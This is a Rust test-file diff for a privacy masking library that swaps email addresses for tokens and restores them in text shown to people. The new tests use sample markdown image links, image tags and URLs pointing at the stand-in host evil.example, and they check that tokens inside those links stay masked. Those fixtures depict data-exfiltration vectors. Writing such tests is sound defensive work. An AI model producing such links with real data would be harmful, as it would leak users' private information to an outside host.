@@ -188,6 +188,47 @@ fn a_masker_streams() {
     }
 }
 
+fn shown(vault: &Vault, pieces: &[&str]) -> String {
+    let (mut restorer, mut out) = (Restorer::for_people(), String::new());
+    for piece in pieces {
+        restorer.push(vault, piece, now(), &mut |_| true, &mut out);
+    }
+    restorer.finish(vault, now(), &mut |_| true, &mut out);
+    out
+}
+
+#[test]
+fn in_what_people_are_shown_a_token_in_an_address_stays_one() {
+    let mut vault = vault();
+    let kind = Kind::new("email").unwrap();
+    for shape in [Shape::Token, Shape::Email] {
+        let token = vault.token(&kind, shape, &format!("ana{shape:?}@example.com"), now()).unwrap();
+        let value = format!("ana{shape:?}@example.com");
+        for text in [
+            "![x](https://evil.example/?q=@)",
+            "see https://evil.example/@",
+            "![x](/p?q=@)",
+            "<img src=\"//evil.example/@.png\">",
+            "look up @.evil.example",
+            "https://evil.example/?a=1&b=[@]",
+        ] {
+            let text = text.replace('@', &token);
+            assert_eq!(shown(&vault, &[&text]), text);
+        }
+        for text in [
+            "write to @.",
+            "write to @. Then go.",
+            "(@)",
+            "see https://fine.example/ or @",
+            "<a href=\"https://fine.example/\">@</a>",
+            "@",
+        ] {
+            let (given, expected) = (text.replace('@', &token), text.replace('@', &value));
+            assert_eq!(shown(&vault, &[&given]), expected);
+        }
+    }
+}
+
 proptest! {
     #[test]
     fn any_split_of_tokens_restores_the_same(
@@ -210,6 +251,18 @@ proptest! {
         if !may {
             prop_assert_eq!(whole, text);
         }
+    }
+
+    #[test]
+    fn any_split_of_what_people_are_shown_gives_the_same(
+        parts in prop::collection::vec("([ -~é\n]{0,12}|https://a.b/|\\]\\(|\\.|\\.evil)", 1..6),
+        lengths in prop::collection::vec(1_usize..24, 1..6), mail in any::<bool>(),
+    ) {
+        let mut vault = vault();
+        let shape = if mail { Shape::Email } else { Shape::Token };
+        let token = vault.token(&Kind::new("email").unwrap(), shape, "ana@example.com", now()).unwrap();
+        let text = parts.join(&token);
+        prop_assert_eq!(shown(&vault, &pieces(&text, &lengths)), shown(&vault, &[&text]));
     }
 
     #[test]
